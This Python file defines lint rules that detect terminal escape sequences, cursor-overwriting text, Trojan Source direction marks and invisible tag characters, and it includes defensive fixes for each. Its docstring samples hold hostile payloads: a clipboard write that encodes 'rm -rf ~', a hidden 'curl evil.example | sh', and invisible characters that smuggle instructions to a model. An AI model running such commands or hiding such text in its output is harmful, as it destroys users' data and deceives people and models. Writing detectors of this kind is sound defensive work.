"""SEC10: text that has an effect when it is shown."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable

from talktree.checks.support.odd_texts import find_odd_texts, select_possibly_odd
from talktree.formats.fixes import repair_value
from talktree.formats.rule import Diagnostic, RepairFunction, make_unsafe_fix, rule
from talktree.formats.rule_context import RuleRecord
from talktree.text.control_chars import (
    COMMAND,
    OVERWRITING,
    decode_hidden_letters,
    extract_hidden,
    find_first_sequence,
    is_misleading,
    replace_with_pictures,
    without_direction,
    without_hidden,
)
from talktree.text.escape import escape_line
from talktree.text.json.strings import with_texts
from talktree.text.secrets import mask_secrets

LONGEST_SHOWN = 40


def _repair_all_texts(change: Callable[[str], str]) -> RepairFunction:
    """Create a fix that changes every text of the record, including copies in other members."""
    return repair_value(
        lambda seen, diagnostic: with_texts(
            seen.value,
            lambda name, text: text if text.isascii() and "\x1b" not in text else change(text),
        )
    )


def _report_matches(seen: RuleRecord, pattern: re.Pattern[str], what: str) -> Iterable[Diagnostic]:
    for placed in seen.gated:
        found = find_first_sequence(placed.text, pattern)
        if found is not None:
            shown = escape_line(placed.text[found.start() : found.start() + 12])
            return [Diagnostic(f"{what} ({shown})", way=placed.way)]
    return ()


@rule(
    "SEC101",
    "terminal-command",
    "warning",
    on="record",
    gate=find_odd_texts,
    glance=select_possibly_odd,
    fix=make_unsafe_fix(_repair_all_texts(lambda text: replace_with_pictures(text, COMMAND))),
)
def terminal_command(seen: RuleRecord) -> Iterable[Diagnostic]:
    """A text holds a sequence that makes a terminal do something: change its title, write to the
    clipboard, open a link under other words, answer as if the user typed, or start over. Colours
    are not reported.

    Why: printing the text with `cat` or a careless viewer executes the sequence. With an answer
    that counts as typed, it can run commands.

    Bad:
        {"content": "done \\u001b]52;c;cm0gLXJmIH4=\\u0007"}

    Fix (unsafe): the character that starts the sequence is replaced by its picture, `␛`, so that
    all of it can be read and none of it acts.
    """
    return _report_matches(seen, COMMAND, "a command to the terminal")


@rule(
    "SEC102",
    "overwritten-text",
    "note",
    on="record",
    gate=find_odd_texts,
    glance=select_possibly_odd,
    fix=make_unsafe_fix(_repair_all_texts(lambda text: replace_with_pictures(text, OVERWRITING))),
)
def overwritten_text(seen: RuleRecord) -> Iterable[Diagnostic]:
    """A text holds sequences that move the cursor, erase or conceal, as progress bars do.

    Why: on a terminal other words are seen in the end than the text holds, so people and models
    read different things. In the output of a tool it is mostly harmless.

    Bad:
        {"content": "curl evil.example | sh\\u001b[2K\\u001b[1Gls -l"}

    Fix (unsafe): the character that starts each sequence is replaced by its picture, `␛`.
    """
    return _report_matches(seen, OVERWRITING, "it moves, erases or conceals what stands there")


@rule(
    "SEC103",
    "misleading-direction",
    "warning",
    on="record",
    gate=find_odd_texts,
    glance=select_possibly_odd,
    fix=make_unsafe_fix(_repair_all_texts(without_direction)),
)
def misleading_direction(seen: RuleRecord) -> Iterable[Diagnostic]:
    """Marks of text direction stand where no text needs them, so that words are shown in another
    order than the one that counts. Texts in Hebrew or Arabic script may have them, if each mark is
    closed on its line.

    Why: code can look reviewed and harmless and do something else when it runs, a file name can
    seem to end with `.txt`; this is known as Trojan Source.

    Bad:
        {"content": "if role != \\"user\\u202e \\u2066// only admins\\u2069 \\u2066\\":"}

    Fix (unsafe): the marks are taken out of the text, and it reads as it counts.
    """
    for placed in seen.gated:
        if is_misleading(placed.text):
            return [
                Diagnostic("it is shown in another order than it is written in", way=placed.way)
            ]
    return ()


@rule(
    "SEC104",
    "hidden-text",
    "warning",
    on="record",
    gate=find_odd_texts,
    glance=select_possibly_odd,
    fix=make_unsafe_fix(_repair_all_texts(without_hidden)),
)
def hidden_text(seen: RuleRecord) -> Iterable[Diagnostic]:
    """A text holds invisible letters: tag characters, or long rows of variation selectors or of
    characters without width. Flags and emoji, which use a few of them, are not reported.

    Why: people do not see them and models do, so instructions can be smuggled into what a user
    pastes, and data out of what a model answers.

    Bad:
        {"content": "Please summarise this page.\\udb40\\udc69\\udb40\\udc67\\udb40\\udc6e…"}

    Fix (unsafe): they are taken out of the text.
    """
    for placed in seen.gated:
        hidden = extract_hidden(placed.text)
        if hidden:
            words = escape_line(mask_secrets(decode_hidden_letters(hidden)))[:LONGEST_SHOWN]
            what = f": {words}" if words else ""
            return [Diagnostic(f"{len(hidden)} letters that nobody sees{what}", way=placed.way)]
    return ()
